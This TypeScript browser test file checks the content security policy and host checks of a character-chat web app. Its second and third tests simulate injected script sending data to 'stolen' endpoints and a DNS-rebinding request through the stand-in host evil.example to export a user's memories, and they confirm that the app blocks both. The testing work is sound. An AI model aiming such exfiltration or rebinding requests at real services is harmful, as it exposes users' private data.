import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { hasBrowser, openBrowser } from '../../fakes/network/browser.ts';
import { servePages } from '../../rigs/page-rig.ts';

/** Opens a page and records what its content security policy blocks, and errors on its console. */
async function watched(page: Page, url: string): Promise<string[]> {
  const seen: string[] = [];
  page.setDefaultTimeout(60_000);
  page.on('console', (message) => {
    if (message.type() === 'error') seen.push(message.text());
  });
  await page.exposeFunction('noteViolation', (text: string) => void seen.push(text));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      const { noteViolation } = globalThis as unknown as { noteViolation: (text: string) => void };
      noteViolation(`${violatedDirective} ${blockedURI}`);
    });
  });
  await page.goto(url);
  return seen;
}

describe.skipIf(!hasBrowser('the content security policy of the page'))('content security policy in a browser', () => {
  const pages = servePages({ flags: { memory: true } });

  it('the content security policy blocks nothing of our pages: a conversation, every tab and every section', async () => {
    const talk = await pages.browser.newPage({ viewport: { width: 1440, height: 900 } });
    const seen = await watched(talk, `${pages.server.url}/#alice`);
    await talk.locator('#text').fill('Who are you?');
    await talk.locator('#text').press('Enter');
    await talk.locator('#transcript li[data-role="character"][data-status="done"]').last().waitFor();
    const editor = await pages.browser.newPage({ viewport: { width: 1440, height: 900 } });
    const alsoSeen = await watched(editor, `${pages.server.url}/characters.html`);
    await editor.locator('#list button').first().waitFor();
    await editor.locator('#list button').first().click();
    await editor.locator('[role="tab"]').first().waitFor();
    for (const tab of await editor.locator('[role="tab"]').all()) {
      await tab.click();
      for (const summary of await editor.locator('[role="tabpanel"]:not([hidden]) summary').all())
        await summary.click();
    }
    await editor.fill('#text', 'Good evening.');
    await editor.click('#send');
    await editor.locator('#transcript li[data-role="character"][data-status="done"]').last().waitFor();
    expect([...seen, ...alsoSeen]).toEqual([]);
    await talk.close();
    await editor.close();
  }, 180_000);

  it('code injected into the page cannot send anything to another host', async () => {
    const page = await pages.browser.newPage();
    const seen = await watched(page, pages.server.url);
    await page.evaluate(async () => {
      await fetch('http://127.0.0.1:9/stolen').catch(() => undefined);
      const socket = new WebSocket('ws://127.0.0.1:9/stolen');
      await new Promise((resolve) => socket.addEventListener('error', resolve));
    });
    await expect.poll(() => seen.filter((text) => text.startsWith('connect-src')).length).toBe(2);
    await page.close();
  }, 60_000);

  it('a page whose name is rebound to this machine cannot read memories in a real browser', async () => {
    const browser = await openBrowser(undefined, ['--host-resolver-rules=MAP evil.example 127.0.0.1']);
    try {
      const page = await browser.newPage();
      const { port } = new URL(pages.server.url);
      const answer = await page.goto(`http://evil.example:${port}/v1/memories/export?user=bob`);
      expect(answer?.status()).toBe(421);
      const status = await page.evaluate(async () => (await fetch('/characters')).status);
      expect(status).toBe(421);
      expect((await page.goto(`http://dramatis.localhost:${port}/`))?.status()).toBe(200);
    } finally {
      await browser.close();
    }
  }, 60_000);
});
